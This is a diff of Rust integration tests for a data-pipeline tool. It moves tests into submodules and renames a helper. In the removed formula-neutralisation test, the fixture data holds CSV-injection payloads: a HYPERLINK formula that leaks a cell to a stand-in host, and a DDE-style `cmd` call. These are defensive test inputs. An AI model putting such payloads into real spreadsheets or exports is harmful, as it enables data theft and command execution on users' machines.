@@ -5,7 +5,12 @@ use crate::common;
 use std::path::Path;
 
 use crate::common::xlsx::{claim_size, hand_made_xlsx, sheet_xml};
-use crate::common::{osservatorio, project, text, write};
+use crate::common::{osservatorio, project, summary_line, text, write};
+
+// Sections 3 (credentials), 4 and 5 (export text in messages and files) and 7 (names).
+mod credentials;
+mod export_text;
+mod names;
 
 const PIPELINE: &str = "name: p\ntables:\n  spese:\n    columns: { mese: date, voce: string, importo: float }\nsources:\n  - { name: spese-pd, table: spese, territory: PD, url: spese.csv, format: csv }\n";
 
@@ -28,18 +33,6 @@ fn ledger(p: &Path) -> String {
     let out = osservatorio(p, &["runs", "--format", "json"]);
     assert_eq!(out.status.code(), Some(0), "{}", text(&out));
     String::from_utf8_lossy(&out.stdout).into_owned()
-}
-
-/// The summary line of `source` in an ingest's table: its status and rows.
-fn source_line(out: &str, source: &str) -> (String, u64) {
-    let line = out
-        .lines()
-        .find(|l| l.starts_with(source))
-        .unwrap_or_else(|| panic!("no line for {source} in {out}"));
-    let mut f = line.split_whitespace().skip(1);
-    let status = f.next().unwrap_or("").to_string();
-    let rows = f.next().and_then(|r| r.parse().ok()).unwrap_or(0);
-    (status, rows)
 }
 
 // ---- 1. A reader that stops halfway never publishes half a sheet ----------------------------
@@ -73,7 +66,7 @@ fn a_date_cell_out_of_any_calendar_is_a_rejected_row_and_the_rest_of_the_sheet_i
     let t = text(&out);
     assert_eq!(out.status.code(), Some(0), "{t}");
     assert_eq!(
-        source_line(&t, "presenze-pd"),
+        summary_line(&t, "presenze-pd"),
         ("ingested".to_string(), 997),
         "{t}"
     );
@@ -98,11 +91,11 @@ fn fails_alone(book: &[u8], expect: &str) {
     let t = text(&out);
     assert_eq!(out.status.code(), Some(1), "{t}");
     assert_eq!(
-        source_line(&t, "good-csv"),
+        summary_line(&t, "good-csv"),
         ("ingested".to_string(), 1),
         "{t}"
     );
-    assert_eq!(source_line(&t, "bad-book").0, "failed", "{t}");
+    assert_eq!(summary_line(&t, "bad-book").0, "failed", "{t}");
     let failed = t
         .lines()
         .find(|l| l.starts_with("FAILED") && l.contains("bad.xlsx"))
@@ -301,7 +294,8 @@ fn json_objects_with_a_new_key_each_are_refused_at_a_sheet_s_columns_not_read_in
 
 // ---- 8. Smaller ones ---------------------------------------------------------------------
 
-fn check_refuses(pipeline: &str, expect: &[&str]) {
+/// `check` refuses the pipeline (exit 2) saying each of `expect`; returns what it said.
+fn check_refuses(pipeline: &str, expect: &[&str]) -> String {
     let dir = project(&[
         ("pipelines/p.yaml", pipeline.as_bytes()),
         ("spese.csv", b"mese,voce,importo\n"),
@@ -312,6 +306,7 @@ fn check_refuses(pipeline: &str, expect: &[&str]) {
     for e in expect {
         assert!(t.contains(e), "'{e}' in {t}");
     }
+    t
 }
 
 #[test]
@@ -379,8 +374,6 @@ fn every_output_file_is_readable_by_the_web_server() {
     assert!(seen > 5, "{seen} files");
 }
 
-// ---- 4. Export text is quoted, never copied whole, into messages ---------------------------
-
 /// The size of a file, or of every file of a folder together.
 fn size_of(path: &Path) -> u64 {
     if path.is_dir() {
@@ -390,406 +383,5 @@ fn size_of(path: &Path) -> u64 {
             .sum()
     } else {
         std::fs::metadata(path).map(|m| m.len()).unwrap_or(0)
-    }
-}
-
-#[test]
-fn a_thirty_megabyte_line_stays_out_of_reports_manifests_and_the_ledger() {
-    const LIMIT: u64 = 1 << 20;
-    let huge = "x".repeat(30 << 20);
-    // The whole export is one line without a line break: its header, without the mapped column.
-    let dir = small_project(&format!("mese,voce,{huge}"));
-    let p = dir.path();
-    write(
-        p,
-        "pipelines/p.yaml",
-        PIPELINE
-            .replace(
-                "format: csv }",
-                "format: csv, columns: { importo: Importo } }",
-            )
-            .as_bytes(),
-    );
-    let out = osservatorio(p, &["run"]);
-    let t = text(&out);
-    assert_eq!(out.status.code(), Some(1), "{}", &t[..t.len().min(2000)]);
-    assert!(t.len() < LIMIT as usize, "output of {} bytes", t.len());
-    assert!(t.contains("spese.csv"), "{}", &t[..t.len().min(2000)]);
-    for f in ["out/index.html", "warehouse/_manifests", "warehouse/_runs"] {
-        assert!(p.join(f).exists(), "{f}");
-        assert!(
-            size_of(&p.join(f)) < LIMIT,
-            "{f}: {} bytes",
-            size_of(&p.join(f))
-        );
-    }
-    assert!(ledger(p).len() < LIMIT as usize);
-
-    // A row with an 8 MB cell (within a line's limit): rejected, its value quoted in a few hundred bytes.
-    let big = "x".repeat(8 << 20);
-    let dir = small_project(&format!(
-        "mese,voce,importo\n2024-01-01,vitto,1\n2024-01-01,vitto,{big}\n"
-    ));
-    let p = dir.path();
-    let out = osservatorio(p, &["run"]);
-    let t = text(&out);
-    assert!(t.len() < LIMIT as usize, "output of {} bytes", t.len());
-    let rej = common::rejected(p, "spese", "spese-pd");
-    assert_eq!(rej.len(), 1, "{}", &t[..t.len().min(2000)]);
-    assert_eq!(rej[0].0, 3);
-    assert!(
-        rej[0].2.starts_with("xxxx") && rej[0].2.len() < 1000,
-        "{} bytes",
-        rej[0].2.len()
-    );
-    for f in ["out/index.html", "warehouse/_manifests", "warehouse/_runs"] {
-        assert!(
-            size_of(&p.join(f)) < LIMIT,
-            "{f}: {} bytes",
-            size_of(&p.join(f))
-        );
-    }
-}
-
-// ---- 5. No CSV written runs a formula in the spreadsheet that opens it ----------------------
-
-/// Panics on a cell of `csv` a spreadsheet would run as a formula; returns how many cells it has.
-fn assert_no_formula(csv: &[u8], what: &str) -> usize {
-    let mut r = csv::ReaderBuilder::new()
-        .has_headers(false)
-        .flexible(true)
-        .from_reader(csv);
-    let mut cells = 0;
-    for rec in r.records() {
-        for c in rec.expect("a CSV record").iter() {
-            cells += 1;
-            let risky = c.starts_with(['=', '+', '-', '@', '\t', '\r']);
-            assert!(
-                !risky || c.parse::<f64>().is_ok(),
-                "{what}: a cell a spreadsheet would run: {c:?}"
-            );
-        }
-    }
-    cells
-}
-
-#[test]
-fn codes_that_look_like_formulas_are_written_as_text_in_every_csv() {
-    let pipeline = "name: p\ntables:\n  spese:\n    columns: { mese: date, voce: string, importo: float }\n    checks:\n      - { name: importo_positivo, rule: \"importo >= 0\", severity: warning }\n    outliers:\n      - { columns: [importo], by: voce, threshold: 1.0 }\nsources:\n  - { name: spese-pd, table: spese, territory: PD, url: spese.csv, format: csv }\n";
-    let indicators = "indicators:\n  - id: spesa\n    title: Spesa\n    kind: output\n    unit: euro\n    grain: year\n    small_cells: show\n    sql: SELECT _territory AS territory, voce AS period, SUM(importo) AS numerator FROM spese GROUP BY 1, 2\n  - id: saldo\n    title: Saldo\n    kind: output\n    unit: euro\n    grain: month\n    small_cells: show\n    sql: SELECT _territory AS territory, mese AS period, SUM(importo) AS numerator FROM spese GROUP BY 1, 2\n";
-    let dashboard = "id: spese\ntitle: Spese\nperiod: { from: \"2024-01\", to: \"2024-12\" }\nsections:\n  - title: Spesa\n    charts:\n      - { type: trend, indicator: saldo, territories: [PD], grain: month }\n      - { type: table, indicators: [saldo, spesa], territories: [PD] }\n";
-    let csv = "mese,voce,importo\n\
-        2024-01-01,\"=HYPERLINK(\"\"http://x.example/?\"\"&A1,\"\"y\"\")\",-3.5\n\
-        2024-02-01,@SUM(A1),-3.5\n\
-        2024-03-01,\"+cmd|' /C calc'!A0\",2\n\
-        2024-04-01,-2+3,4\n\
-        2024-05-01,\"\tx\",500\n";
-    let dir = project(&[
-        ("pipelines/p.yaml", pipeline.as_bytes()),
-        ("indicators/i.yaml", indicators.as_bytes()),
-        ("dashboards/spese.yaml", dashboard.as_bytes()),
-        ("spese.csv", csv.as_bytes()),
-    ]);
-    let p = dir.path();
-    let out = osservatorio(p, &["run"]);
-    let t = text(&out);
-    assert!(out.status.code().is_some_and(|c| c <= 1), "{t}");
-
-    let q = osservatorio(
-        p,
-        &[
-            "query",
-            "SELECT voce, importo FROM spese ORDER BY _line",
-            "--format",
-            "csv",
-        ],
-    );
-    assert_eq!(q.status.code(), Some(0), "{}", text(&q));
-    assert_no_formula(&q.stdout, "query");
-    let shown = String::from_utf8_lossy(&q.stdout);
-    assert!(
-        shown.contains("'@SUM(A1),-3.5"),
-        "text neutralised, numbers kept: {shown}"
-    );
-    assert!(shown.contains("'-2+3,4"), "{shown}");
-
-    for args in [
-        vec!["findings", "--format", "csv"],
-        vec!["history", "saldo", "--format", "csv"],
-        vec!["runs", "--format", "csv"],
-    ] {
-        let o = osservatorio(p, &args);
-        assert_eq!(o.status.code(), Some(0), "{args:?}: {}", text(&o));
-        assert_no_formula(&o.stdout, &args.join(" "));
-    }
-
-    let mut stack = vec![p.join("out")];
-    let mut files = 0;
-    while let Some(d) = stack.pop() {
-        for e in std::fs::read_dir(&d).expect("a folder") {
-            let path = e.expect("an entry").path();
-            if path.is_dir() {
-                stack.push(path);
-            } else if path.extension().is_some_and(|x| x == "csv") {
-                files += 1;
-                assert_no_formula(
-                    &std::fs::read(&path).expect("read"),
-                    &path.display().to_string(),
-                );
-            }
-        }
-    }
-    assert!(files >= 3, "{files} CSV files");
-    let data = std::fs::read_to_string(p.join("out/spese/data.csv")).expect("data.csv");
-    assert!(
-        data.contains("-3.5") || data.contains("-7"),
-        "negative numbers stay numbers: {data}"
-    );
-}
-
-// ---- 7. Names ------------------------------------------------------------------------------
-
-#[test]
-fn names_the_output_or_the_warehouse_use_for_themselves_and_odd_names_are_refused() {
-    let dashboard = |id: &str| {
-        format!(
-            "id: {id}\ntitle: Spese\nsections:\n  - title: Spesa\n    charts:\n      - {{ type: trend, indicator: spesa, territories: [PD] }}\n"
-        )
-    };
-    for (id, expect) in [
-        ("published", "published"),
-        ("deliveries", "deliveries"),
-        ("index", "index"),
-    ] {
-        let dir = project(&[
-            ("pipelines/p.yaml", PIPELINE.as_bytes()),
-            ("indicators/i.yaml", INDICATORS.as_bytes()),
-            ("dashboards/d.yaml", dashboard(id).as_bytes()),
-            ("spese.csv", b"mese,voce,importo\n"),
-        ]);
-        let out = osservatorio(dir.path(), &["check"]);
-        let t = text(&out);
-        assert_eq!(out.status.code(), Some(2), "{t}");
-        assert!(
-            t.contains("d.yaml") && t.contains("id") && t.contains(expect),
-            "{t}"
-        );
-    }
-    let long = "a".repeat(300);
-    for (pipeline, key) in [
-        (
-            PIPELINE
-                .replace("  spese:\n", "  _history:\n")
-                .replace("table: spese", "table: _history"),
-            "_history",
-        ),
-        (PIPELINE.replace("name: spese-pd", "name: a/b"), "a/b"),
-        (
-            PIPELINE.replace("name: spese-pd", "name: \"la mia fonte\""),
-            "la mia fonte",
-        ),
-        (
-            PIPELINE.replace("name: spese-pd", &format!("name: {long}")),
-            "aaaa",
-        ),
-        (PIPELINE.replace("name: p\n", "name: \"p'q\"\n"), "p'q"),
-    ] {
-        let dir = project(&[
-            ("pipelines/p.yaml", pipeline.as_bytes()),
-            ("spese.csv", b"mese,voce,importo\n"),
-        ]);
-        let out = osservatorio(dir.path(), &["check"]);
-        let t = text(&out);
-        assert_eq!(out.status.code(), Some(2), "{t}");
-        assert!(t.contains("p.yaml") && t.contains(key), "{t}");
-        assert!(
-            t.contains("lower-case letters"),
-            "says what is allowed: {t}"
-        );
-        assert!(t.len() < 2000, "the name is quoted, not copied: {t}");
-    }
-    // An indicator id.
-    let dir = project(&[
-        ("pipelines/p.yaml", PIPELINE.as_bytes()),
-        (
-            "indicators/i.yaml",
-            INDICATORS
-                .replace("id: spesa", "id: \"spesa totale\"")
-                .as_bytes(),
-        ),
-        ("spese.csv", b"mese,voce,importo\n"),
-    ]);
-    let out = osservatorio(dir.path(), &["check"]);
-    let t = text(&out);
-    assert_eq!(out.status.code(), Some(2), "{t}");
-    assert!(
-        t.contains("i.yaml") && t.contains("indicators[0].id"),
-        "{t}"
-    );
-}
-
-#[test]
-fn the_bundled_project_keeps_valid_names() {
-    let dir = common::bundled_project();
-    let out = osservatorio(dir.path(), &["check"]);
-    assert_eq!(out.status.code(), Some(0), "{}", text(&out));
-}
-
-// ---- 3. Credentials go only to the origin the source names ---------------------------------
-
-use crate::common::http_server;
-
-#[test]
-fn configured_headers_are_not_sent_to_the_other_origin_a_portal_redirects_to() {
-    use http_server::{Route, Server};
-    let csv = b"voce;importo\nvitto;10\n".to_vec();
-    let cdn = Server::start(vec![(
-        "/files/spese.csv",
-        Route::File {
-            body: csv.clone(),
-            etag: "v1".into(),
-        },
-    )]);
-    let portal = Server::start(vec![
-        (
-            "/export/spese.csv",
-            Route::Redirect {
-                location: format!("{}/files/spese.csv", cdn.base),
-            },
-        ),
-        (
-            "/old/spese.csv",
-            Route::Redirect {
-                location: "/export/real.csv".into(),
-            },
-        ),
-        (
-            "/export/real.csv",
-            Route::File {
-                body: csv,
-                etag: "v1".into(),
-            },
-        ),
-    ]);
-    let source = |name: &str, path: &str| {
-        format!(
-            "  - {{ name: {name}, table: spese, territory: PD, url: \"{}{path}\", format: csv, options: {{ delimiter: \";\" }}, retries: 0, headers: {{ X-Api-Key: env:PORTALE_KEY, Authorization: env:PORTALE_TOKEN }} }}\n",
-            portal.base
-        )
-    };
-    let pipeline = format!(
-        "name: portale\ntables:\n  spese:\n    columns: {{ voce: string, importo: float }}\nsources:\n{}{}",
-        source("altrove", "/export/spese.csv"),
-        source("stesso", "/old/spese.csv"),
-    );
-    let dir = project(&[("pipelines/p.yaml", pipeline.as_bytes())]);
-    let out = std::process::Command::new(common::BIN)
-        .args(["ingest", "--project"])
-        .arg(dir.path())
-        .env("OSSERVATORIO_LOG", "warn")
-        .env("PORTALE_KEY", "chiave-segreta")
-        .env("PORTALE_TOKEN", "Bearer s3greto")
-        .output()
-        .expect("the binary runs");
-    let t = text(&out);
-    assert_eq!(out.status.code(), Some(0), "{t}");
-    assert_eq!(
-        source_line(&t, "altrove"),
-        ("ingested".to_string(), 1),
-        "{t}"
-    );
-    assert_eq!(
-        source_line(&t, "stesso"),
-        ("ingested".to_string(), 1),
-        "{t}"
-    );
-    // The portal got the credentials; the other origin never did.
-    let asked = portal.headers("/export/spese.csv");
-    assert!(
-        asked
-            .iter()
-            .all(|h| h.get("x-api-key").map(String::as_str) == Some("chiave-segreta")),
-        "{asked:?}"
-    );
-    let other = cdn.headers("/files/spese.csv");
-    assert!(!other.is_empty());
-    for h in &other {
-        assert!(
-            !h.contains_key("x-api-key") && !h.contains_key("authorization"),
-            "{h:?}"
-        );
-    }
-    // A redirect within the portal keeps them.
-    let same = portal.headers("/export/real.csv");
-    assert!(!same.is_empty());
-    for h in &same {
-        assert_eq!(
-            h.get("x-api-key").map(String::as_str),
-            Some("chiave-segreta"),
-            "{h:?}"
-        );
-        assert_eq!(
-            h.get("authorization").map(String::as_str),
-            Some("Bearer s3greto"),
-            "{h:?}"
-        );
-    }
-}
-
-#[test]
-fn a_chunked_reply_without_a_length_is_read() {
-    use http_server::{Route, Server};
-    let portal = Server::start(vec![(
-        "/spese.csv",
-        Route::Chunked {
-            body: b"voce;importo\nvitto;10\nluce;20\n".to_vec(),
-        },
-    )]);
-    let pipeline = format!(
-        "name: portale\ntables:\n  spese:\n    columns: {{ voce: string, importo: float }}\nsources:\n  - {{ name: a-pezzi, table: spese, territory: PD, url: \"{}/spese.csv\", format: csv, options: {{ delimiter: \";\" }}, retries: 0 }}\n",
-        portal.base
-    );
-    let dir = project(&[("pipelines/p.yaml", pipeline.as_bytes())]);
-    let out = osservatorio(dir.path(), &["ingest"]);
-    let t = text(&out);
-    assert_eq!(out.status.code(), Some(0), "{t}");
-    assert_eq!(
-        source_line(&t, "a-pezzi"),
-        ("ingested".to_string(), 2),
-        "{t}"
-    );
-}
-
-#[test]
-fn a_compressed_body_served_without_decoding_is_quoted_not_copied_into_messages() {
-    use http_server::{Route, Server};
-    use rand::{RngCore, SeedableRng};
-    // What a gzip body read as text looks like: bytes without a line break, invalid as text.
-    let mut body = vec![0u8; 4 << 20];
-    rand_chacha::ChaCha8Rng::seed_from_u64(17).fill_bytes(&mut body);
-    body.retain(|b| *b != b'\n' && *b != b'\r');
-    let portal = Server::start(vec![(
-        "/spese.csv.gz",
-        Route::File {
-            body,
-            etag: "v1".into(),
-        },
-    )]);
-    let pipeline = format!(
-        "name: portale\ntables:\n  spese:\n    columns: {{ voce: string, importo: float }}\nsources:\n  - {{ name: compressa, table: spese, territory: PD, url: \"{}/spese.csv.gz\", format: csv, options: {{ encoding: windows-1252 }}, retries: 0, columns: {{ voce: Voce }} }}\n",
-        portal.base
-    );
-    let dir = project(&[("pipelines/p.yaml", pipeline.as_bytes())]);
-    let p = dir.path();
-    let out = osservatorio(p, &["ingest"]);
-    let t = text(&out);
-    assert_eq!(out.status.code(), Some(1), "{}", &t[..t.len().min(2000)]);
-    assert!(t.len() < 8000, "output of {} bytes", t.len());
-    for f in ["warehouse/_manifests", "warehouse/_runs"] {
-        assert!(
-            size_of(&p.join(f)) < 64 << 10,
-            "{f}: {} bytes",
-            size_of(&p.join(f))
-        );
     }
 }
